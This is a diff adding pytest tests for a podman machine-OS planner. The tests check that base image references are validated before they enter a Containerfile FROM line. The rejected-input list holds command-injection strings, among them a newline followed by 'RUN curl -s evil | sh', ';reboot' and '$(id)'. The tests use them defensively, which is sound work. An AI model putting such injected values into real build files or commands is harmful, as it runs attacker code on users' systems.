@@ -189,6 +189,50 @@ def test_what_goes_into_a_containerfile_or_script_is_checked_there_too(make):
         make('a"b')
 
 
+DIGEST = 'sha256:c4a15145a232d882ccf2ed32d22c06c01a7cf62317eb966a98340ae4bd56dfa6'
+
+
+@pytest.mark.parametrize('good', [
+    'quay.io/podman/machine-os:5.4', 'localhost:5000/ns/sub/img:1.2-rc_1', 'fedora', 'quay.io/fedora/fedora-coreos@' + DIGEST,
+    'registry.example.org/a/b:tag@' + DIGEST, '[::1]:5000/img:1',
+])
+def test_base_image_references_that_are_accepted(good):
+    assert MO.check_base_image(good) == good
+    m = fcos('rpm-ostree-2024.9-fcos-41-image.json')
+    steps = MO.plan(m, ['qemu-user-static'], 'os_apply', 5, 4, base_image=good)
+    assert steps[0]['script'].count('FROM ') == 1
+
+
+@pytest.mark.parametrize('bad', [
+    'quay.io/podman/machine-os:5.4\nRUN curl -s evil | sh', 'quay.io/x:1\n', 'quay.io/x:1\r', 'quay.io/x :1', '\tquay.io/x',
+    'quay.io/x:1;reboot', '$(id)', '-x', 'quay.io/x\u0661', 'quay.io/x:\u0661', 'quay.io/x\x00', 'a' * 300,
+    'quay.io/x@sha256:abc', 'quay.io/x:tag:tag',
+])
+def test_base_image_must_be_an_image_reference(bad):
+    with pytest.raises(MO.MachineOSError, match='^base_image=') as err:
+        MO.check_base_image(bad)
+    assert 'not an image reference' in str(err.value)
+    m = fcos('rpm-ostree-2024.9-fcos-41-image.json')
+    with pytest.raises(MO.MachineOSError, match='^base_image='):
+        MO.plan(m, ['qemu-user-static'], 'os_apply', 5, 4, base_image=bad)
+    with pytest.raises(MO.MachineOSError, match='^base_image='):
+        MO.derived_containerfile(bad, ['qemu-user-static'])
+
+
+def test_a_bad_base_image_is_refused_even_when_nothing_needs_it():
+    m = fcos('rpm-ostree-2024.9-fcos-41-image.json', rpm={'qemu-user-static': 'installed'})
+    with pytest.raises(MO.MachineOSError, match='^base_image='):
+        MO.plan(m, ['qemu-user-static'], 'os_apply', 5, 4, base_image='x\nRUN evil')
+
+
+def test_the_booted_image_reference_is_checked_before_it_goes_into_from():
+    m = fcos('rpm-ostree-2024.9-fcos-41-image.json')
+    m.ostree.booted['container-image-reference'] = 'ostree-unverified-registry:quay.io/x:1\nRUN evil'
+    with pytest.raises(MO.MachineOSError, match='^base_image: the machine runs') as err:
+        MO.plan(m, ['qemu-user-static'], 'os_apply', 5, 4)
+    assert 'set base_image' in str(err.value)
+
+
 def test_ssh_argv_survives_the_guest_shell():
     """What podman machine ssh hands to the guest's shell, run by a real sh here."""
     script = 'echo "a b"; echo \'$HOME\'; printf "%s\\n" "it\'s"'
